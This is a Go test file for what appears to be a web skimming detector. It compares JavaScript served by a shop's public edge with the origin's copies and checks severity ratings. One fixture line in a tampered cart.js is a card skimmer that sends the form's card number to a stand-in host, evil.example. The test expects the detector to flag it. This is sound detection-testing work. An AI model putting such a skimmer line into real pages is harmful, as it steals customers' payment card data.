package page

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/sensor/page/browser"
)

// server answers with texts by path.
func server(t *testing.T, files map[string]string) *httptest.Server {
	t.Helper()
	requests := 0
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text, ok := files[r.URL.Path]
		if !ok || !strings.HasPrefix(r.Host, "shop.localhost:") {
			http.NotFound(w, r)
			return
		}
		requests++
		fmt.Fprint(w, strings.ReplaceAll(text, "TOKEN", fmt.Sprint(requests)))
	}))
	t.Cleanup(s.Close)
	return s
}

func TestWhatOnlyCustomersGet(t *testing.T) {
	const page = `<html><script src="/js/shop.js"></script><script>var token = "TOKEN";</script></html>`
	behind := map[string]string{
		"/": page, "/js/shop.js": "/* the shop's */ var a = 1;\nstart(a);", "/js/cart.js": "cart.open();", "/js/fresh.js": "serve('TOKEN');", "/js/old.js": "one(); two();",
	}
	public := map[string]string{
		"/": strings.Replace(page, "</html>", `<script src="https://stats.example/x.js"></script></html>`, 1), "/js/shop.js": "var a=1;start(a)",
		"/js/cart.js": "cart.open();\nnew Image().src = '//evil.example/' + document.forms[0].pan.value;", "/js/fresh.js": "serve('TOKEN');", "/js/old.js": "one();",
		"/js/extra.js": "extra();", "/files/stored.js": "stored();", "/cdn-cgi/scripts/email.js": "mail();",
	}
	origin, edge := server(t, behind), server(t, public)
	start, err := url.Parse(strings.Replace(edge.URL, "127.0.0.1", "shop.localhost", 1) + "/")
	if err != nil {
		t.Fatal(err)
	}
	sensor, err := New(Config{Origin: strings.TrimPrefix(origin.URL, "http://")})
	if err != nil {
		t.Fatal(err)
	}
	v := &visit{}
	for path, source := range public {
		if path != "/" {
			address := start.String() + path[1:]
			v.scripts = append(v.scripts, browser.Script{Kind: "external", URL: address, Source: source, SHA256: digest(source)[7:], At: time.Unix(1, 0)})
		}
	}
	o := (&look{Sensor: sensor, start: start}).newOrigin()
	defer o.close()
	signs, gaps := o.compare(t.Context(), v)
	got := map[string]tillwatch.Severity{}
	for _, s := range signs {
		got[strings.TrimPrefix(s.Place, strings.TrimSuffix(start.String(), "/"))] = s.Severity
		if strings.HasSuffix(s.Place, "cart.js") && (len(s.Evidence) != 1 || s.Evidence[0].Line != 2) {
			t.Errorf("the place of what was changed: %+v", s.Evidence)
		}
	}
	want := map[string]tillwatch.Severity{"/": tillwatch.High, "/js/cart.js": tillwatch.High, "/js/old.js": tillwatch.Low, "/js/extra.js": tillwatch.Medium}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("got %v, want %v", got, want)
	}
	if len(gaps) != 1 || !strings.HasSuffix(gaps[0].Place, "/files/stored.js") {
		t.Errorf("gaps %+v", gaps)
	}
}

func TestAnOriginThatDoesNotAnswerIsAGap(t *testing.T) {
	closed := httptest.NewServer(http.NotFoundHandler())
	closed.Close()
	sensor, err := New(Config{Origin: strings.TrimPrefix(closed.URL, "http://")})
	if err != nil {
		t.Fatal(err)
	}
	start, _ := url.Parse("http://shop.localhost:1/")
	o := (&look{Sensor: sensor, start: start}).newOrigin()
	defer o.close()
	signs, gaps := o.compare(t.Context(), &visit{scripts: []browser.Script{{Kind: "external", URL: start.String() + "a.js", Source: "a()"}}})
	if len(signs) != 0 || len(gaps) != 1 || !strings.Contains(gaps[0].Why, "--origin") {
		t.Errorf("signs %+v, gaps %+v", signs, gaps)
	}
}
